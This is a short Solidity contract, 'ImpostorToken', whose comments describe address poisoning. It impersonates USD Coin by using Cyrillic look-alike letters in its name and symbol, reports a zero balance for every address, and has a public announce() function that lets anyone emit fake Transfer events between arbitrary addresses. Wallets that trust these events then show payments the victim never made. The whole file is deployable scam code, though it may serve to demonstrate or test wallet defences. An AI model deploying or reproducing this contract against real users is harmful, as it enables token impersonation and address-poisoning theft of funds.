// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

/// @title A worthless token that looks like a dollar and reports transfers that never happened
/// @notice Address poisoning works like this: the victim's history shows a payment "by" the victim to an address that
/// looks like one the victim knows. A wallet that believes every `Transfer` event shows it.
contract ImpostorToken {
    string public constant name = unicode"USD Сoin";
    string public constant symbol = unicode"USDС";
    uint8 public constant decimals = 6;
    uint256 public constant totalSupply = 1e15;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function announce(address from, address to, uint256 value) external {
        emit Transfer(from, to, value);
    }
}
